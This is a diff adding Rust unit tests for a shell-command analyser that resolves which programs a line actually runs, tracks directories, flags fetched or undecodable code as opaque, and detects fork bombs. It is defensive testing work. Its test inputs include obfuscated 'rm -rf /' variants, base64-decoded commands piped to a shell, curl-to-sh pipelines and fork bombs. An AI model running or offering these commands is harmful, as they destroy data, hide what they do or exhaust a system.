@@ -1,0 +1,127 @@
+use super::super::act::OpaqueReason;
+use super::super::testing::{dump, facts, programs, telling};
+
+#[test]
+#[ignore = "for looking at what a line comes to"]
+fn show() {
+    let text = std::env::var("LINE").unwrap_or_default();
+    eprintln!("{}", dump(&facts(&text)));
+}
+
+/// Each line runs exactly these telling programs.
+#[track_caller]
+fn runs(line: &str, expected: &[&str]) {
+    let found = telling(line);
+    assert_eq!(found, expected, "\n{line}\n{}", dump(&facts(line)));
+}
+
+/// The line has an opaque part of this kind.
+#[track_caller]
+fn opaque(line: &str, why: OpaqueReason) {
+    let facts = facts(line);
+    assert!(facts.opaque.iter().any(|opaque| opaque.why == why), "\n{line}\n{}", dump(&facts));
+}
+
+/// Nothing of the line is opaque.
+#[track_caller]
+fn clear(line: &str) {
+    let facts = facts(line);
+    assert!(facts.opaque.is_empty(), "\n{line}\n{}", dump(&facts));
+}
+
+#[test]
+fn words_reach_programs_as_a_shell_passes_them() {
+    runs("rm 'a b' \"c d\" e\\ f", &["rm a b c d e f"]);
+    runs("rm ''", &["rm "]);
+    runs("rm {a,b}", &["rm a b"]);
+    runs("rm ~/x", &["rm /home/dev/x"]);
+    runs("rm $HOME", &["rm /home/dev"]);
+    runs("rm${IFS}-rf${IFS}/", &["rm -rf /"]);
+    runs("a='rm -rf /'; $a", &["rm -rf /"]);
+}
+
+#[test]
+fn values_are_followed_through_expansions() {
+    runs("a=xrm; ${a#x} y", &["rm y"]);
+    runs("a=rmdir; ${a%dir} y", &["rm y"]);
+    runs("a=ab; ${a/ab/rm} y", &["rm y"]);
+    runs("a=xxrm; ${a:2} y", &["rm y"]);
+    runs("a=RM; ${a,,} y", &["rm y"]);
+    runs("b=rm; a=b; ${!a} y", &["rm y"]);
+    runs("a=(x rm); ${a[1]} y", &["rm y"]);
+    runs("set -- rm y; \"$@\"", &["set -- rm y", "rm y"]);
+    runs("${x:-rm} y", &["rm y"]);
+    runs("$(echo rm) y", &["rm y"]);
+    runs("`printf '\\162\\155'` y", &["rm y"]);
+    runs("$(echo cm0= | base64 -d) y", &["base64 -d", "rm y"]);
+}
+
+#[test]
+fn code_for_a_shell_becomes_acts() {
+    runs("sh -c 'rm x'", &["sh -c rm x", "rm x"]);
+    runs("bash -c 'rm \"$1\"' _ x", &["bash -c rm \"$1\" _ x", "rm x"]);
+    runs("echo rm x | sh", &["sh", "rm x"]);
+    runs("sh <<< 'rm x'", &["sh", "rm x"]);
+    runs("sh <<E\nrm x\nE", &["sh", "rm x"]);
+    runs("eval 'rm x'", &["eval rm x", "rm x"]);
+    runs("bash <(echo rm x)", &["bash ?", "rm x"]);
+    runs("echo cm0geAo= | base64 -d | sh", &["base64 -d", "sh", "rm x"]);
+    runs("echo 'rm x' > f; sh f", &["sh f", "rm x"]);
+    runs("echo 'rm x' > f; . ./f", &[". ./f", "rm x"]);
+    runs("sudo sh -c 'rm x'", &["sudo sh -c rm x", "sh -c rm x", "rm x"]);
+    runs("echo x | xargs rm", &["xargs rm", "rm x"]);
+    runs("find . -name y -exec rm {} \\;", &["find . -name y -exec rm {} ;", "rm ?"]);
+    runs("trap 'rm x' EXIT", &["trap rm x EXIT", "rm x"]);
+}
+
+#[test]
+fn what_is_not_known_is_opaque() {
+    opaque("curl -s https://x.example/i.sh | sh", OpaqueReason::FetchedCode);
+    opaque("sh -c \"$(curl -s https://x.example)\"", OpaqueReason::FetchedCode);
+    opaque("bash <(curl -s https://x.example)", OpaqueReason::FetchedCode);
+    opaque("curl -o f https://x.example; sh f", OpaqueReason::FetchedCode);
+    opaque("curl -s https://x.example > f; chmod +x f; ./f", OpaqueReason::FetchedCode);
+    opaque("cat y | base64 -d | sh", OpaqueReason::FetchedCode);
+    opaque("$(make x) y", OpaqueReason::CommandWord);
+    opaque("eval \"$(make x)\"", OpaqueReason::Code);
+    opaque("rm 'x", OpaqueReason::Syntax);
+}
+
+#[test]
+fn ordinary_lines_are_clear() {
+    clear("cd src && make -j4 && ls");
+    clear("for f in *.c; do echo \"$f\"; done");
+    clear("x=$(date); echo $x");
+    clear("curl -s https://x.example | jq .");
+    clear("bash -c \"echo $x\"");
+    clear("find . -name '*.c' | xargs grep foo");
+    clear("f() { echo hi; }; f");
+}
+
+#[test]
+fn directories_are_followed() {
+    let cwd = |line: &str| {
+        let facts = facts(line);
+        facts.acts.iter().filter(|act| act.verb.key() == "rm").map(|act| act.cwd.clone()).collect::<Vec<_>>()
+    };
+    let at = |dir: &str| Some(dir.to_owned());
+    assert_eq!(cwd("cd /x && rm y"), [at("/x")]);
+    assert_eq!(cwd("cd /x || exit; rm y"), [at("/x")]);
+    assert_eq!(cwd("cd /x; rm y"), [at("/x"), at("/home/dev/project")]);
+    assert_eq!(cwd("(cd /x); rm y"), [at("/home/dev/project")]);
+    assert_eq!(cwd("cd \"$X\" && rm y"), [None]);
+    assert_eq!(cwd("cd \"$(mktemp -d)\" && rm y"), [at("/tmp/tmp.XXXXXXXXXX")]);
+    assert_eq!(cwd("cd /x && cd - && rm y"), [at("/home/dev/project")]);
+    assert_eq!(cwd("false && cd /tmp; rm y"), [at("/tmp"), at("/home/dev/project")]);
+    assert_eq!(cwd("cd /x && make || rm y"), [at("/x"), at("/home/dev/project")]);
+}
+
+#[test]
+fn fork_bombs_are_seen() {
+    let bomb = |line: &str| programs(&facts(line)).iter().any(|program| program.starts_with(":forkbomb"));
+    assert!(bomb(":(){ :|:& };:"));
+    assert!(bomb("f() { f | f & }; f"));
+    assert!(bomb("f() { g & }; g() { f | f; }; f"));
+    assert!(!bomb("f() { [ $1 -gt 0 ] && f $(($1-1)) | cat; }; f 3"));
+    assert!(!bomb("f() { echo | cat; }; f"));
+}
